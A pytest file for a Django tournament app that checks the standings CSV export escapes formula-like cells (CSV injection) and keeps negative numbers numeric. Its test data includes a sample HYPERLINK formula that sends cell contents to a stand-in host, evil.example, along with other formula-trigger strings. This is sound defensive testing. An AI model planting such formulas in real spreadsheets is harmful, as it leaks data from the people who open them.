"""The standings spreadsheet never hands a formula to a spreadsheet (OWASP "CSV injection"):
names that would run get a leading quote, real numbers (negative totals too) stay numbers."""

import csv
import io

import pytest
from django.test import Client

from scoring.services import Actor
from tournaments import services
from tournaments.views.exports import csv_cell

pytestmark = pytest.mark.django_db

NAMES = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+SUM(1+1)", "@x", "-2+3"]


@pytest.fixture
def hostile(club, olga):
    by = Actor.for_user(olga)
    competition = services.create_competition(
        club=club, by=by, name="Coppa", rulesets=["terziglio"]
    )
    entries = [services.add_entry(competition=competition, player=n, by=by) for n in NAMES]
    services.adjust(competition=competition, entry=entries[0], points=-12, reason="late", by=by)
    services.adjust(competition=competition, entry=entries[1], points="-0.5", reason="rude", by=by)
    return competition


def rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8")), delimiter=";"))


def test_names_that_would_run_as_formulas_are_written_as_text(hostile):
    by_name = {row[1]: row for row in rows(Client().get("/p/uno/coppa/standings.csv"))[1:]}
    assert set(by_name) == {"'" + name for name in NAMES}


def test_negative_totals_stay_numbers(hostile):
    table = rows(Client().get("/p/uno/coppa/standings.csv"))
    points = {row[1]: row[2] for row in table[1:]}
    assert points["'" + NAMES[0]] == "-12"
    assert points["'+SUM(1+1)"] == "-0.5"
    comma = rows(Client().get("/p/uno/coppa/standings.csv?decimal=comma"))
    assert {row[1]: row[2] for row in comma[1:]}["'+SUM(1+1)"] == "-0,5"


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+SUM(A1)", "'+SUM(A1)"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-12", "-12"),
        ("+3", "+3"),
        ("-0,5", "-0,5"),
        ("Anna", "Anna"),
        ("", ""),
        (7, 7),
        (-7, -7),
    ],
)
def test_a_cell_is_quoted_only_when_it_could_start_a_formula(cell, written):
    assert csv_cell(cell) == written
